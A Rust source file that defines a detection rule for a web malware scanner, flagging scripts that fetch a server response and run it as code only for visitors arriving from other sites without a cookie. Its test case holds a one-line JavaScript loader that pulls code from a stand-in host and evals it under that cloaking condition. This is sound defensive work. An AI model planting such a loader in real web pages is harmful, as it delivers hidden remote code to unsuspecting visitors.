//! `answer-run-for-some-visitors`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "answer-run-for-some-visitors",
    description: "The script runs a server's response as code, but only for visitors who arrive from elsewhere without a cookie.",
    severity: Severity::High,
    classes: ClassSet::MAGECART.union(ClassSet::MALWARE),
    needs: &[
        one(&[Atom::RemoteRun, Atom::AnswerRun, Atom::AnswerHanded]),
        one(&[Atom::ValueRun]),
        one(&[Atom::Referrer]),
        one(&[Atom::Cookie, Atom::Storage, Atom::BrowserCheck]),
    ],
    within: 400,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "var g=function(u,f){var x=new XMLHttpRequest;x.onreadystatechange=function(){if(x.readyState==4)f(x.responseText)};x.open('GET',u,true);x.send(null)};if(document.referrer&&document.referrer.indexOf(location.hostname)<0&&!document.cookie)g('//c.example/a.php',function(t){eval(t)})",
        ],
        without: &[
            "var x=new XMLHttpRequest;x.open('POST','/hit');x.send(document.referrer+document.cookie)",
            "var x=new XMLHttpRequest;x.open('GET','/m.js',false);x.send();eval(x.responseText)",
            r"eval('var x=new XMLHttpRequest;x.onload=function(){done(x.responseText)};x.open(\'GET\',\'/a?\'+document.referrer+document.cookie);x.send()')",
        ],
    },
};
